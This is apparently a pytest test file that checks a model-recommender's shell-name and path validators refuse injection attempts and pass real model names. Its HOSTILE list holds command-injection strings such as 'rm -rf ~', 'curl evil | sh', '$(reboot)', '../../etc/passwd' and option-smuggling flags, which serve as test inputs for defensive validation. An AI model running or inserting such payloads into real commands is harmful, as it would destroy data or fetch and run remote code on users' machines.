from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from recommender.errors import BadInputError
from recommender.runtimes import shell

HOSTILE = [
    "a/b; rm -rf ~",
    "a/b && curl evil | sh",
    "a/$(reboot)",
    "a/`reboot`",
    "a/b\nreboot",
    "a/b c",
    "../../etc/passwd",
    "a/../b",
    "-hf/evil",
    "--config=evil",
    "a/b'",
    'a/b"',
    "a/b>file",
    "a/b\\",
    "a/b\x00",
    "ä/ö",
    "a/b#c",
    "",
    " ",
    "!!",
    "~/x",
    "*",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("check", [shell.repository, shell.file_name, shell.tag, shell.name])
def test_hostile_names_are_refused_and_named_in_the_message(check: object, text: str) -> None:
    with pytest.raises(BadInputError) as caught:
        check(text)  # type: ignore[operator]
    assert repr(text) in str(caught.value)


@pytest.mark.parametrize(
    ("check", "text"),
    [
        (shell.repository, "mlx-community/Qwen3-0.6B-4bit"),
        (shell.repository, "01-ai/Yi-1.5-9B-Chat"),
        (shell.file_name, "BF16/gemma-3-27b-it-BF16-00001-of-00002.gguf"),
        (shell.tag, "qwen3:0.6b-q4_K_M"),
        (shell.tag, "ai/qwen3:0.6B-Q4_K_M"),
        (shell.name, "Qwen2.5-0.5B-Instruct-q4f16_1-MLC"),
    ],
)
def test_real_names_pass_unchanged(check: object, text: str) -> None:
    assert check(text) == text  # type: ignore[operator]


@given(st.text())
def test_whatever_a_name_is_it_is_refused_or_stays_one_plain_word(text: str) -> None:
    for check in (shell.repository, shell.file_name, shell.tag, shell.name):
        try:
            word = check(text)
        except BadInputError:
            continue
        assert shlex.split(word) == [text]
        assert shlex.quote(word) == text
        assert not word.startswith("-")


@given(st.text())
def test_whatever_a_path_is_it_is_refused_or_stays_one_word_that_is_no_option(text: str) -> None:
    try:
        word = shell.path(text)
    except BadInputError:
        return
    (back,) = shlex.split(word)
    assert back in (text, f"./{text}")
    assert not back.startswith("-")


def test_a_path_with_spaces_is_quoted() -> None:
    assert shell.path("/home/me/My models/tiny.gguf") == "'/home/me/My models/tiny.gguf'"
